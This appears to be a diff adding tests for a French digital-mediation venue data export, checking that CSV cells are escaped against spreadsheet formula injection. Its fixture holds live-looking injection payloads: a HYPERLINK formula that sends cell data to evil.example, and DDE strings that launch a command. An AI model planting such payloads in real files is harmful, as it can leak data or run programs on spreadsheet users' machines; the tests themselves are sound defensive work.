@@ -137,3 +137,73 @@ describe('the open-data mapping to the schéma des lieux de médiation numériqu
     expect(String(lieu.presentation_resume)).toHaveLength(280);
   });
 });
+
+describe('the CSV export, opened in a spreadsheet', () => {
+  const FORMULA = /^[=+\-@\t\r]/;
+  /** What people could type in each text field, each starting the way a formula does. */
+  const hostile = space({
+    documentId: '=1+1',
+    name: '=HYPERLINK("https://evil.example/?d="&A2,"Cliquez")',
+    type: 'autre',
+    siret: '+33 1',
+    summary: '+cmd|\' /C calc\'!A0',
+    description: '-2+3;=1+1',
+    address: '@SUM(1+9)*cmd|\' /C calc\'!A0',
+    addressComplement: '\t=1+1',
+    postalCode: '\r=1+1',
+    commune: '=commune',
+    inseeCode: '-29019',
+    // Numbers are written as numbers: their test is below.
+    latitude: null,
+    longitude: null,
+    openingHours: '@Mo-Fr 09:00-12:00',
+    phone: '=02 61 91 04 12',
+    email: '=e@epn.example',
+    website: '+https://epn.example',
+    services: ['=Aide aux démarches administratives'],
+    publics: ['-Seniors'],
+    specificSupport: ['@Surdité'],
+    accessModes: ['\tSe présenter'],
+    supportModes: ['\rEn autonomie'],
+    fees: ['=Gratuit'],
+    accessibilityUrl: '=https://acceslibre.example',
+    lastUpdated: '=2026-01-12',
+  });
+  const record = () => csvObjects(toCsv([hostile], { source: '=Réseau' }))[0]!;
+
+  it('should start no cell with a formula character, whatever people typed', () => {
+    const formulas = Object.entries(record()).filter(([, cell]) => FORMULA.test(cell));
+
+    expect(formulas).toEqual([]);
+  });
+
+  it('should keep what people typed, behind a single quote', () => {
+    expect(record()).toMatchObject({
+      nom: `'${hostile.name}`,
+      presentation_resume: `'${hostile.summary}`,
+      complement_adresse: `'${hostile.addressComplement}`,
+      services: "'=Aide aux démarches administratives",
+      modalites_acces: "'\tSe présenter",
+      source: "'=Réseau",
+    });
+  });
+
+  it('should write phone numbers in the schema’s +33 form and negative coordinates as they are', () => {
+    const [row] = csvObjects(toCsv([space({ phone: '+33 2 61 91 04 12', longitude: -4.5049, latitude: -0.5 })], context));
+
+    expect(row).toMatchObject({ telephone: '+33261910412', longitude: '-4.5049', latitude: '-0.5' });
+  });
+
+  it('should quote a cell holding a semicolon or a tab, which some spreadsheets split on', () => {
+    const csv = toCsv([space({ name: 'EPN;=1+1', commune: 'Brest\t=1+1' })], context);
+
+    expect(csv).toContain('"EPN;=1+1"');
+    expect(csv).toContain('"Brest\t=1+1"');
+  });
+
+  it('should leave the JSON export as people typed it', () => {
+    const [lieu] = JSON.parse(toJson([hostile], context)) as Record<string, unknown>[];
+
+    expect(lieu).toMatchObject({ nom: hostile.name, adresse: hostile.address, services: hostile.services });
+  });
+});
